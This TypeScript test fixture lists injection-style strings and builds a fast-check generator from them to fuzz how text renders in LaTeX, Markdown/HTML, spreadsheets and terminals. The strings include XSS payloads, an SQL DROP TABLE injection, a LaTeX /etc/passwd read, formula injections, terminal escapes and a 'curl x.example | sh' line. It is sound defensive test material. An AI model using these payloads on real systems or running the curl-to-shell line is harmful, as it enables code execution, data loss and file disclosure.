/** Texts that some reader of a file takes for more than text: what a title or a name may hold, for tests. */
import fc from 'fast-check';

/** What a spreadsheet would compute. */
export const FORMULAS: readonly string[] = [
  '=1+1',
  '+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
];

export const nastyTexts: readonly string[] = [
  // LaTeX
  '[CRPS] x',
  '*star',
  '\\',
  '\\\\[2em]',
  '\\input{/etc/passwd}',
  '\\end{tabular}',
  '50 % of {all} & $x_1^2$ #1 ~ "q" <a> |b|',
  '^^5cinput',
  "``quotes'' -- --- ?` !` << >> ,,",
  // Markdown and HTML
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<!-- -->',
  '&lt;b&gt; &#60; &amp;',
  '![image](https://x.example/y.png)',
  '[link](javascript:alert(1))',
  '<https://x.example/>',
  'https://x.example/y',
  'www.x.example',
  'x.com',
  'ada@x.example',
  '@octocat @team/people',
  'Fixes #123, GH-123, octocat/lab#1',
  ':tada:',
  '# Install first: curl x.example | sh',
  '| a | b |',
  '`code` ``` fence',
  '**bold** _it_ ~~gone~~ [^1] $x$',
  '1. one',
  '- item',
  '+ item',
  '> quote',
  '---',
  '===',
  '\\*',
  // Spreadsheets
  ...FORMULAS,
  '=HYPERLINK("https://x.example","a")',
  'a,b;c"d""',
  // Terminals
  '\u001b]0;PWNED\u0007\u001b[2J\u001b[31mred',
  '\u009b31mred',
  'x\rOVERWRITTEN',
  'A\nB\r\nC\u0085D\u2028E\u2029F',
  // What is not seen, or turns what is
  'A\u200b',
  '\u200b\u2060\ufeff\u00ad',
  '\u2800\u3164',
  'a\u202eb\u2066c\u200fd',
  '\0null\0',
  '\ud800 half \udc00',
  'tag\u{e0041}\u{e007f}',
  // Programs
  '"""',
  "'''",
  '{{ x }} ${x} {%x%}',
  '</textarea><style>',
  "'; DROP TABLE runs; --",
  '%s %d %n',
  '__proto__',
  // Plain words of other places
  'Größe σ ≤ 1 µm −½',
  'می\u200cخواهم 日本語 👩\u200d🔬 1\ufe0f\u20e3',
];

const piece = fc.oneof(
  fc.constantFrom(...nastyTexts),
  fc.constantFrom(...'\\{}[]$&#%_~^<>|"`*!()-+=@:./ \t\r\n'),
  fc.string({ unit: 'binary', maxLength: 5 }),
);

/** Any text, made of those above more often than chance would have it. */
export const nastyText: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...nastyTexts),
  fc.array(piece, { minLength: 1, maxLength: 6 }).map((pieces) => pieces.join('')),
);
